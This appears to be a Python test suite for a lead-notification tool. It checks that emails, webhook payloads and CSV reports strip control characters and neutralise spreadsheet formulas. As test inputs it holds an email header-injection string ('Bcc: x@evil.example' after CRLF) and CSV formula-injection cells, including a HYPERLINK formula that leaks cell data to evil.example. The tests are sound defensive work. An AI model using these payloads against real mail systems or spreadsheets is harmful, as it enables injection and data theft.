"""What leaves leadsla is safe whatever a CRM export held: no control characters in any
message part (subject, bodies, webhook payload), no formula in any CSV cell a spreadsheet
would run. Properties over arbitrary text, then the real paths: an email through aiosmtpd,
a webhook through a loopback HTTP server, the review's CSV attachment."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from leadsla.delivery.safety import FORMULA_START, clean_json, clean_line, clean_text, write_csv
from leadsla.delivery.senders import Outgoing, Senders
from leadsla.delivery.timeouts import SendLimits
from leadsla.pipelines.tick import run_tick
from leadsla.report.data import CSV_COLUMNS, HEADLINE_COLUMNS, ReportData
from leadsla.report.render import render_report
from leadsla.smtp import SmtpSettings

from .conftest import Posted, SmtpSink, WriteLeads

#: Forbidden in every message part: C0 but tab and line feed, DEL, C1, bidi controls.
FORBIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
HOSTILE = (
    "Zoë\x00 \x07Bell\x1b[31m red\x7f \x85next\x9b2J \u202egnp.exe\u2028\r\nBcc: x@evil.example"
)
VISIBLE_LEAD = re.compile(r"[\s\u200b\u200c\u200d\u2060\ufeff]*")


def first_visible(text: str) -> str:
    return VISIBLE_LEAD.sub("", text, count=1)[:1]


# ---- properties over any text ------------------------------------------------------------------


@settings(max_examples=500)
@given(st.text())
def test_bodies_keep_line_breaks_and_tabs_and_lose_every_other_control(text: str) -> None:
    out = clean_text(text)
    assert not FORBIDDEN.search(out)
    assert "\r" not in out
    assert clean_text(out) == out  # idempotent: cleaning twice changes nothing
    assert out.count("\n") == len(re.findall(r"\r\n?|[\n\u2028\u2029]", text))  # no break lost
    printable = "".join(c for c in text if c.isprintable() or c in "\t\n")
    if printable == text and not FORBIDDEN.search(text):
        assert out == text  # ordinary text (any script, emoji) is untouched


@settings(max_examples=500)
@given(st.text(), st.one_of(st.none(), st.integers(1, 300)))
def test_header_values_are_one_line_without_controls(text: str, limit: int | None) -> None:
    out = clean_line(text, limit)
    assert not FORBIDDEN.search(out)
    assert not re.search(r"[\r\n\t\u2028\u2029]", out)
    assert out == out.strip()
    if limit is not None:
        assert len(out) <= limit


@pytest.mark.slow
@settings(max_examples=300)
@given(
    st.recursive(
        st.one_of(st.text(), st.integers(), st.none(), st.booleans()),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
        max_leaves=20,
    )
)
def test_every_string_in_a_payload_is_cleaned_keys_too(value: Any) -> None:
    text = json.dumps(clean_json(value), ensure_ascii=False)
    assert not FORBIDDEN.search(text.replace("\\n", "").replace("\\t", ""))


CELL = st.one_of(
    st.text(),
    st.sampled_from(["=1+2", "+91 98765", "-5", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u200b=1",
                     "\n@x", "\uff1dcmd", "\x00=1", "=HYPERLINK(\"http://evil\")"]),
    st.none(), st.integers(), st.floats(allow_nan=False), st.dates(),
)  # fmt: skip


@settings(max_examples=400)
@given(st.lists(st.lists(CELL, min_size=3, max_size=3), max_size=5))
def test_no_csv_cell_starts_a_formula_and_nothing_else_changes(rows: list[list[Any]]) -> None:
    buf = io.StringIO()
    write_csv(buf, ["a", "b", "c"], rows)
    header, *back = list(csv.reader(io.StringIO(buf.getvalue())))
    assert header == ["a", "b", "c"]
    assert len(back) == len(rows)  # no cell spills into another row or column
    for got_row, raw_row in zip(back, rows, strict=True):
        assert len(got_row) == 3
        for got, raw in zip(got_row, raw_row, strict=True):
            assert not FORBIDDEN.search(got)
            if raw is None:
                assert got == ""
            elif isinstance(raw, int | float):
                assert got == str(raw)  # numbers stay numbers, a minus sign is no formula
            elif isinstance(raw, date):
                assert got == raw.isoformat()
            elif got.startswith("'") and (raw[:1] in FORMULA_START or first_visible(got[1:])
                                          in FORMULA_START):  # fmt: skip
                assert got[1:] == clean_text(raw).replace("\r", "\n")
            else:
                assert first_visible(got) not in FORMULA_START
                assert got == clean_text(raw).replace("\r", "\n")


# ---- the real paths ----------------------------------------------------------------------------


@pytest.mark.slow
def test_a_hostile_lead_name_reaches_the_email_without_control_characters(
    rules_dir: Path, exports: Path, tmp_path: Path, write_leads: WriteLeads,
    smtp_sink: tuple[SmtpSink, int],
) -> None:  # fmt: skip
    sink, port = smtp_sink
    write_leads("20261123T040500Z", [{
        "lead_id": "H1", "name": HOSTILE, "message": HOSTILE, "owner": "rahul",
        "created_at": "2026-11-23 09:35", "form_type": "contact_form", "service_interest": "seo",
        "status": "new", "email": "a@x.io", "lead_source": "website",
    }])  # fmt: skip
    ch = Senders(smtp=SmtpSettings(host="127.0.0.1", port=port, sender="sla@acme.example",
                                    timeouts=SendLimits(2, 5, 10)))  # fmt: skip
    run_tick(rules_dir=rules_dir, exports=str(exports), db=tmp_path / "t.duckdb",
             now=datetime(2026, 11, 23, 4, 6, tzinfo=UTC), channels=ch)  # fmt: skip
    [(_, msg)] = sink.messages
    subject = str(msg["Subject"])
    text = msg.get_body(("plain",)).get_content()
    html = msg.get_body(("html",)).get_content()
    assert "Bell[31m red" in subject  # the name is there, its controls are not
    assert "Bcc" not in msg
    for part in (subject, text, html):  # (CRLF ends every line on the wire: that is SMTP's)
        assert not FORBIDDEN.search(part.replace("\r\n", "\n")), part
    assert not re.search(r"[\r\n\u2028]", subject)


@pytest.mark.parametrize("channel", ["webhook", "crm_webhook", "slack", "teams", "whatsapp"])
def test_webhook_payloads_carry_no_control_characters(http_sink: Posted, channel: str) -> None:
    url = f"{http_sink.url}/hook"
    key = {"slack": "slack:#inbound-sales", "teams": "teams:#inbound-sales",
           "crm_webhook": "crm"}.get(channel, channel)  # fmt: skip
    recipient = "#inbound-sales" if channel in ("slack", "teams") else "member:rahul"
    ch = Senders(endpoints={key: url}, timeouts=SendLimits(2, 5, 10))
    ch.send(Outgoing("k1", channel, recipient, HOSTILE, HOSTILE, HOSTILE,
                     {"note": HOSTILE, "nested": {HOSTILE: [HOSTILE, 3]}}))  # fmt: skip
    ch.close()
    [body] = [json.loads(b) for _, b in http_sink.requests]
    strings: list[str] = []

    def walk(v: Any) -> None:
        if isinstance(v, str):
            strings.append(v)
        elif isinstance(v, dict):
            for k, x in v.items():
                strings.append(k)
                walk(x)
        elif isinstance(v, list):
            for x in v:
                walk(x)

    walk(body)
    assert any("Bell[31m red" in s for s in strings)
    assert not [s for s in strings if FORBIDDEN.search(s)]


def test_the_review_csv_attachment_neutralises_formulas_and_its_text_has_no_controls() -> None:
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    row = (evil, "inbound", "@rahul", "-2+3", None, HOSTILE) + (None,) * (len(CSV_COLUMNS) - 7)
    data = ReportData(report_date=date(2026, 11, 20), team=None,
                      headline=dict.fromkeys(HEADLINE_COLUMNS, 0),
                      csv_rows=[(*row, -3)])  # fmt: skip
    rep = render_report(data, org_name="Acme\x07", zone="Asia/Kolkata", scope_name="Mgmt\x1b")
    [back] = list(csv.DictReader(io.StringIO(rep.csv)))
    assert back["lead_id"] == "'" + evil
    assert back["owner_id"] == "'@rahul"
    assert back["intent"] == "'-2+3"
    assert back["record_url"] == "-3"  # a number keeps its sign
    assert not [c for c in back.values() if FORBIDDEN.search(c)]  # (rows end in CRLF: csv's)
    for part in (rep.subject, rep.text, rep.html):
        assert not FORBIDDEN.search(part)
    assert unicodedata.normalize("NFC", rep.subject) == "[leadsla] Mgmt: daily review 2026-11-20"
